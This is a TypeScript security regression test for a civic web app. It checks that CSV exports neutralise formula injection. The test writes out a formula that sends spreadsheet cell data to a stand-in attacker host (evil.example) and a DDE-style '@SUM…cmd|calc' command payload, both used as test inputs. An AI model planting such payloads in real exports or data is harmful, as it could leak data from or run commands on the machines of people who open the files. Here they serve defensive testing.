// Issue 13's findings as an attacker reproduced them, each now refused: CSV formula injection, an
// outbox that handed a Barcelona reset link to Fuenlabrada's admin, names shown across territories,
// logs that carried what people typed.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { actorHeader, createTestApp, csrfFrom, type TestApp } from '../support/app.ts';
import { findTerritory } from '../../src/contexts/territories/territory.service.ts';
import type { RoleGrant } from '../../src/platform/auth/permissions.ts';

let t: TestApp;
let barcelonaId: string;
let fuenlabradaId: string;
let csrf: { token: string; cookie: string };
before(async () => {
  t = await createTestApp({ actAs: true, config: { rateLimitPerMinute: 100_000 } });
  barcelonaId = (await findTerritory(t.database.db, 'barcelona'))!.id;
  fuenlabradaId = (await findTerritory(t.database.db, 'fuenlabrada'))!.id;
  csrf = csrfFrom(await t.app.inject({ url: '/ca/t/barcelona/organisations/new', headers: actorHeader({ grants: [] }) }));
});
after(async () => t.close());

const as = (grants: RoleGrant[], personId = '00000000-0000-4000-8000-0000000013a1', twoFactorVerified = true) => ({ ...actorHeader({ personId, displayName: 'Attacker', grants, twoFactorVerified }), cookie: csrf.cookie });
const post = (url: string, headers: Record<string, string>, payload: Record<string, string | string[]>) =>
  t.app.inject({ method: 'POST', url, headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, payload: new URLSearchParams(Object.entries({ ...payload, _csrf: csrf.token }).flatMap(([k, v]) => (Array.isArray(v) ? v.map((x) => [k, x]) : [[k, v]]))).toString() });

test('finding 5: an organisation named =HYPERLINK(…) is exported as text, not as a formula', async () => {
  const attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Obre")';
  const created = await post('/ca/t/barcelona/organisations/new', as([]), {
    name: attack,
    type: 'association',
    description: '@SUM(1+1)*cmd|calc',
    areas: ['housing'],
    languages: ['ca'],
    website: '',
    publicEmail: '',
    publicPhone: '',
  });
  assert.equal(created.statusCode, 303);
  const csv = await t.app.inject({ url: '/ca/t/barcelona/organisations.csv', headers: as([{ role: 'territory-admin', scope: { kind: 'territory', id: barcelonaId } }]) });
  assert.equal(csv.statusCode, 200);
  const rows = parse(csv.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
  const row = rows.find((r) => r.name!.includes('HYPERLINK'));
  assert.ok(row, 'the organisation is exported');
  assert.equal(row.name, `'${attack}`);
  assert.equal(row.description, `'@SUM(1+1)*cmd|calc`);
  for (const r of rows) for (const cell of Object.values(r)) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/, 'no cell of the export begins like a formula');
});
